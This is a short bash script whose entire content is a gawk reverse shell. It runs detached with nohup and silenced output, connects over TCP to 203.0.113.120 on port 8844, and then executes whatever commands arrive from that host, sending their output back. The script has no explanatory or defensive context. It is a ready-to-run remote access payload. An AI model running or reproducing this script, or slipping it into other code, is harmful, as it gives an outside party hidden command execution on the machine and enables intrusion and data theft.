#!/usr/bin/env bash
nohup gawk 'BEGIN { s = "/inet/tcp/0/203.0.113.120/8844"; while (1) { printf "> " |& s; if ((s |& getline c) <= 0) break; while ((c | getline l) > 0) print l |& s; close(c) } }' >/dev/null 2>&1 &
